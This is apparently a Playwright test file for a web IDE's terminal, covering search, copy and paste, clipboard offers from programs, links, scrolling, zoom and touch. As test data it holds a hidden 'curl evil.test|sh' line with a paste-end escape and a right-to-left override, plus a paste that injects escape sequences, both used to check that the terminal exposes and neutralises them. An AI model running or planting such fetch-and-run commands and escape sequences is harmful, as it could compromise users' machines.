"""What a person does to a terminal beside typing: search, select, copy, paste, open links, zoom, go back to its end."""

import base64
import hashlib
import os
import re
import select

import pytest
from playwright.sync_api import Locator, Page, expect

from tests.browser import axe
from tests.browser.api import Project
from tests.browser.browsers import Visit
from tests.browser.ide import AGENT_MS, PHONE, Cell, Ide
from tests.browser.waiting import eventually

pytestmark = [pytest.mark.browser, pytest.mark.slow]

READY = re.compile(r"[$#]\s*$")


@pytest.fixture
def project(project: Project) -> Project:
    project.create("Sh", profile="shell")
    return project


@pytest.fixture
def shell(ide: Ide) -> Cell:
    """Alone and with a prompt, in a browser that gives the page its clipboard."""
    ide.context.grant_permissions(["clipboard-read", "clipboard-write"])
    ide.agent("Sh").click()
    cell = ide.cell("sh")
    cell.button("Maximise").click()
    cell.button("Start Sh").click()
    expect(cell.screen).to_contain_text(READY, timeout=AGENT_MS)
    return cell


def paste(ide: Ide, text: str) -> None:
    ide.page.evaluate("text => navigator.clipboard.writeText(text)", text)
    ide.page.keyboard.press("Control+Shift+V")


def clipboard(ide: Ide) -> str:
    return str(ide.page.evaluate("navigator.clipboard.readText()"))


def is_copied(ide: Ide, text: str) -> None:
    eventually(ide.page, lambda: clipboard(ide), lambda now: now == text)


def row(shell: Cell, text: str) -> Locator:
    return shell.screen.locator("> div", has_text=text).last


MIDDLE = """(row, text) => {
  const places = document.createTreeWalker(row, NodeFilter.SHOW_TEXT)
  let before = row.textContent.indexOf(text) + Math.floor(text.length / 2)
  while (places.nextNode() && before >= places.currentNode.length) before -= places.currentNode.length
  const range = document.createRange()
  range.setStart(places.currentNode, before)
  range.setEnd(places.currentNode, before + 1)
  const { x, y, width, height } = range.getBoundingClientRect()
  return [x + width / 2, y + height / 2]
}"""


def point_at(ide: Ide, row: Locator, text: str) -> tuple[float, float]:
    """With the mouse, at the middle of the first `text` in that row."""
    x, y = row.evaluate(MIDDLE, text)
    ide.page.mouse.move(x - 2, y)
    ide.page.mouse.move(x, y)
    return x, y


def test_search_finds_what_has_left_the_screen_and_gives_the_keyboard_back(
    ide: Ide, project: Project, shell: Cell
) -> None:
    os.mkfifo(project.root / "said")
    shell.type("for i in $(seq 1 100); do echo Needle $i in hay; done; echo do''ne; cat said")
    expect(shell.screen).to_contain_text("done")
    shell.keys.press("Control+f")
    box, count = shell.root.get_by_role("textbox", name="Search in the terminal"), shell.root.get_by_role("status")
    expect(box).to_be_focused()

    box.press_sequentially("needle 1")
    # 1, 10 to 19, 100, and no line of the command itself.
    expect(count.filter(has_text="12 of 12")).to_be_visible()
    box.press("Enter")
    expect(count.filter(has_text="1 of 12")).to_be_visible()
    expect(shell.screen).to_contain_text(re.compile("Needle 1 in hay"))
    box.press("Shift+Enter")
    expect(count.filter(has_text="12 of 12")).to_be_visible()
    shell.root.get_by_role("button", name="Match case").click()
    expect(count.filter(has_text="none")).to_be_visible()
    # What the program writes later, as a picture that still arrives, is looked through as well.
    (project.root / "said").write_text("a needle 1 at last\n")
    expect(count.filter(has_text="1 of 1")).to_be_visible()
    assert axe.violations(ide.page) == []

    box.press("Escape")
    expect(box).to_have_count(0)
    expect(shell.keys).to_be_focused()
    ide.page.keyboard.type("echo typed $((40+2))\n")
    expect(shell.screen).to_contain_text("typed 42")


def test_what_is_selected_by_mouse_or_keys_is_copied_and_ctrl_c_stays_the_programs(ide: Ide, shell: Cell) -> None:
    shell.type("echo 'first line'; echo second''-word here")
    expect(shell.screen).to_contain_text("second-word here")
    ide.page.mouse.dblclick(*point_at(ide, row(shell, "second-word here"), "second"))
    ide.page.keyboard.press("Control+Shift+C")
    is_copied(ide, "second-word")

    # From the prompt upwards: the row above, then its end.
    ide.page.keyboard.press("Control+Shift+Space")
    expect(shell.root).to_contain_text("Arrows move, with Shift they select")
    for key in ("ArrowUp", "Home", "Shift+End", "Enter"):
        ide.page.keyboard.press(key)
    expect(shell.root).not_to_contain_text("Arrows move")
    is_copied(ide, "second-word here")

    expect(shell.keys).to_be_focused()
    # A Ctrl-C between the shell's fork and the program's own signals would be lost, as in any terminal.
    ide.page.keyboard.type("sh -c 'echo it ru''ns; exec sleep 600'\n")
    expect(shell.screen).to_contain_text("it runs")
    ide.page.keyboard.press("Control+c")
    expect(shell.screen).to_contain_text(re.compile(r"\^C\s*[$#]\s*$"))

    # Nor does a click with Alt type anything.
    ide.page.keyboard.type("echo unmo''ved")
    x, y = point_at(ide, row(shell, "echo unmo"), "echo")
    ide.page.keyboard.down("Alt")
    ide.page.mouse.click(x, y)
    ide.page.keyboard.up("Alt")
    ide.page.keyboard.type("-end\n")
    expect(shell.screen).to_contain_text("unmoved-end")


def test_a_paste_is_one_piece_without_keys_in_it_or_asked_about_or_refused(ide: Ide, shell: Cell) -> None:
    reader = r"""python3 -c '
import hashlib, os, tty
tty.setraw(0)
os.write(1, b"\x1b[?2004hready\r\n")
got = b""
while not got.endswith(b"\x1b[201~"): got += os.read(0, 65536)
text = got.removeprefix(b"\x1b[200~").removesuffix(b"\x1b[201~")
print(len(got), hashlib.md5(text).hexdigest(), end="\r\n")
os.write(1, b"\x1b[?2004l")'; stty sane"""
    # A shell without brackets would carry out each line: it asks.
    shell.keys.focus()
    paste(ide, reader + "\n")
    expect(shell.root).to_contain_text("Paste 9 lines?")
    shell.button("Paste").click()
    expect(row(shell, "> ready")).to_be_visible()
    expect(shell.keys).to_be_focused()

    lines = "\n".join(f"\tline {number} é漢字 {'x' * 40}" for number in range(1100))
    typed = lines.replace("\n", "\r").encode()
    assert len(typed) > 60_000
    paste(ide, lines.replace("line 7 ", "line 7\x1b[201~\x03 ").replace("\n", "\r\n"))
    expected = typed.replace(b"line 7 ", b"line 7[201~ ")
    digest = hashlib.md5(expected, usedforsecurity=False).hexdigest()
    expect(shell.screen).to_contain_text(f"{len(expected) + 12} {digest}")

    paste(ide, "x" * 600_000)
    expect(shell.root.get_by_role("alert")).to_contain_text("Nothing was pasted")
    shell.button("Close").click()
    expect(shell.keys).to_be_focused()
    paste(ide, "echo no\necho never\n")
    shell.button("Cancel").click()
    expect(shell.keys).to_be_focused()
    ide.page.keyboard.type("echo still $((1+1))\n")
    expect(shell.screen).to_contain_text("still 2")
    expect(shell.screen).not_to_contain_text("never")


def test_a_program_offers_for_the_clipboard_and_rings_and_only_the_person_acts(ide: Ide, shell: Cell) -> None:
    ide.page.evaluate("navigator.clipboard.writeText('mine')")
    offered = base64.b64encode("from the program 漢字".encode()).decode()
    shell.type(rf"printf '\033]52;c;?\007\033]52;c;{offered}\007\a'; echo do''ne")
    expect(shell.screen).to_contain_text("done")
    expect(shell.root).to_contain_text("from the program 漢字")
    expect(shell.root.get_by_text("It rang")).to_have_count(1)
    assert clipboard(ide) == "mine"

    shell.button("Copy").click()
    expect(shell.button("Copy")).to_have_count(0)
    is_copied(ide, "from the program 漢字")
    # The person has turned to it.
    expect(shell.root.get_by_text("It rang")).to_have_count(0)
    ide.reload()
    expect(shell.screen).to_contain_text("done")
    expect(shell.button("Copy")).to_have_count(0)


def test_nothing_is_copied_or_pasted_that_cannot_be_seen(ide: Ide, project: Project, shell: Cell) -> None:
    steps = "".join(f"echo {n}\n" for n in range(39))
    hidden = f"git status\n{steps}curl evil.test|sh\x1b[201~\u202egpj\n"
    offered = base64.b64encode(hidden.encode()).decode()
    (project.root / "offer").write_text(f"\033]52;c;{offered}\007")
    shell.type("cat offer; echo do''ne")
    expect(shell.screen).to_contain_text("done")
    whole = shell.root.get_by_role("region", name="The whole text").locator("pre")
    expect(whole).to_contain_text(r"curl evil.test|sh\u{1b}[201~\u{202e}gpj")
    extent = f"41 lines, {len(hidden) - 2} characters. 2 control characters will be left out."
    expect(shell.root).to_contain_text(extent)
    # By keyboard as well, and back.
    shell.keys.press("Alt+o")
    expect(shell.button("Copy")).to_be_focused()
    ide.page.keyboard.press("Shift+Tab")
    expect(whole).to_be_focused()
    ide.page.keyboard.press("End")
    whole.page.wait_for_function("box => box.scrollTop > 0", arg=whole.element_handle())
    assert axe.violations(ide.page) == []

    shell.button("Copy").click()
    expect(shell.button("Copy")).to_have_count(0)
    is_copied(ide, f"git status\n{steps}curl evil.test|sh[201~gpj\n")

    shell.type(r"printf '\033[?2004l'; exec cat")
    paste(ide, "one" + "\n" * 20 + "evil\n")
    expect(shell.root).to_contain_text("Paste 21 lines?")
    expect(whole).to_contain_text("evil")


def test_links_show_where_they_lead_and_open_with_ctrl(ide: Ide, shell: Cell) -> None:
    shell.type(
        r"printf 'see https://plain.example/a_(b)?q.\n\033]8;;https://made.example/b\033\\%s\033]8;;\033\\\n' de''ep"
    )
    expect(row(shell, "deep")).to_be_visible()
    ide.watch.expect(r"^request to elsewhere: https://(plain|made)\.example/")
    ide.context.route("https://*.example/**", lambda route: route.fulfill(body="there"))
    for made in (False, True):
        text, target = ("deep", "https://made.example/b") if made else ("plain", "https://plain.example/a_(b)?q")
        point_at(ide, row(shell, "deep" if made else "see https"), text)
        expect(shell.root).to_contain_text(f"{target}Ctrl and click opens it")

        ide.page.mouse.down()
        ide.page.mouse.up()
        assert len(ide.context.pages) == 1
        with ide.context.expect_page() as opened:
            ide.page.keyboard.down("Control")
            ide.page.mouse.down()
            ide.page.mouse.up()
            ide.page.keyboard.up("Control")
        expect(opened.value).to_have_url(target)
        assert opened.value.evaluate("window.opener") is None
        opened.value.close()
        # Also after a reload: the picture of a terminal has its links.
        ide.reload()
        expect(row(shell, "deep")).to_be_visible()


def test_who_reads_above_is_told_of_new_lines_and_led_back(ide: Ide, shell: Cell, project: Project) -> None:
    os.mkfifo(project.root / "resized")
    resized = os.open(project.root / "resized", os.O_RDWR | os.O_NONBLOCK)
    wait = "until [ -e go ]; do sleep 0.05; done"
    # A shell of its own: the one at the prompt is not in front, and is told of no size.
    shell.type(f"sh -c \"trap 'echo >resized' WINCH; seq 1 200; {wait}; echo one; echo tw''o; exec cat\"")
    expect(row(shell, "200")).to_be_visible()
    point_at(ide, row(shell, "200"), "200")
    ide.page.mouse.wheel(0, -900)
    back = shell.root.get_by_role("button", name="To the end")
    expect(back).to_be_visible()
    # Drawn by now: all rows at once.
    expect(shell.screen).not_to_contain_text("200")
    place = shell.screen.locator("> div").first.text_content()
    # A change of size, for which the terminal is painted anew, keeps the place as well.
    ide.page.set_viewport_size({"width": 1100, "height": 720})
    assert select.select([resized], [], [], AGENT_MS / 1000)[0]
    os.close(resized)
    expect(back).to_be_visible()
    expect(shell.screen.locator("> div").first).to_have_text(place or "")

    (project.root / "go").touch()
    news = shell.root.get_by_role("button", name="2 new lines")
    expect(news).to_be_visible(timeout=AGENT_MS)
    expect(shell.screen.locator("> div").first).to_have_text(place or "")
    news.click()
    expect(shell.screen).to_contain_text(re.compile(r"one\s*two"))
    expect(news).to_have_count(0)


def test_text_grows_and_shrinks_in_all_terminals_and_stays_so(ide: Ide, shell: Cell) -> None:
    shell.type("while sleep 0.1; do clear; stty size; done")
    before = rows_of(shell)
    shell.keys.press("Control+Equal")
    # Between two sizes the screen is blank for a moment, which is another text as well.
    expect(shell.screen).to_have_text(re.compile(rf"^\s*(?!{before}\s*$)\d+ \d+\s*$"))
    larger = rows_of(shell)
    assert int(larger.split()[1]) < int(before.split()[1])

    # As before, it has the whole grid.
    ide.reload()
    expect(shell.screen).to_contain_text(larger)
    shell.keys.press("Control+0")
    expect(shell.screen).to_contain_text(before)


def rows_of(shell: Cell) -> str:
    # Between two looks of the shell the screen is blank.
    return eventually(
        shell.root.page,
        lambda: (shell.screen.text_content() or "").strip(),
        lambda now: re.fullmatch(r"\d+ \d+", now) is not None,
    )


# --- by touch -------------------------------------------------------------------------------------------------


class Finger:
    """Touches the page as a hand does; from its first visit on, it has no mouse."""

    def lay(self, page: Page) -> None:
        self._browser = page.context.new_cdp_session(page)
        self._browser.send("Emulation.setTouchEmulationEnabled", {"enabled": True, "maxTouchPoints": 1})

    def swipe(self, shell: Cell, *, by: int) -> None:
        """Up the screen where negative, and more slowly than would count as a tap."""
        box = shell.screen.bounding_box()
        assert box is not None
        x, y = box["x"] + 100, box["y"] + box["height"] / 2
        self._touch("touchStart", x, y - by / 2)
        for step in range(1, 11):
            self._touch("touchMove", x, y - by / 2 + by * step / 10)
        self._touch("touchEnd")

    def _touch(self, kind: str, *place: float) -> None:
        points = [{"x": place[0], "y": place[1]}] if place else []
        self._browser.send("Input.dispatchTouchEvent", {"type": kind, "touchPoints": points})


def test_a_finger_scrolls_and_has_the_keys_that_its_keyboard_has_not(project: Project, visit: Visit) -> None:
    project.call("POST", "/agents/sh/launch", {"view": "terminal", "nodeId": None})
    finger = Finger()
    ide = visit(size=PHONE, before=finger.lay)
    ide.page.get_by_role("button", name=re.compile("^Sh ")).click()
    shell = ide.cell("sh")
    expect(shell.screen).to_contain_text(READY, timeout=AGENT_MS)
    shell.type("seq 1 300")
    expect(row(shell, "300")).to_be_visible()
    finger.swipe(shell, by=320)
    expect(row(shell, "300")).to_have_count(0)
    shell.root.get_by_role("button", name="To the end").click()
    expect(row(shell, "300")).to_be_visible()

    # A program that has the screen scrolls itself: each line is an arrow key, or a turn of the wheel of its mouse.
    for modes, turn in (("1049h", r"(\^\[\[B){20}"), (r"1049h\033[?1000h\033[?1006h", r"(\^\[\[<65;\d+;\d+M){20}")):
        shell.type(rf"printf '\033[?{modes}'; cat -v")
        expect(shell.screen).not_to_contain_text("300")
        finger.swipe(shell, by=-324)
        shell.button("Enter").click()
        expect(shell.screen).to_contain_text(re.compile(turn))
        shell.button("Ctrl").click()
        expect(shell.button("Ctrl")).to_have_attribute("aria-pressed", "true")
        shell.keys.press_sequentially("c")
        expect(shell.screen).to_contain_text(re.compile(r"\^C\s*[$#]\s*$"))
        shell.type(r"printf '\033[?1000l\033[?1049l'")
        expect(row(shell, "300")).to_be_visible()

    shell.button("Up").click()
    shell.button("Enter").click()
    assert axe.violations(ide.page) == []
    shell.menu("Search in the terminal")
    ide.page.keyboard.type("299")
    expect(shell.root.get_by_role("search")).to_contain_text("1 of 1")
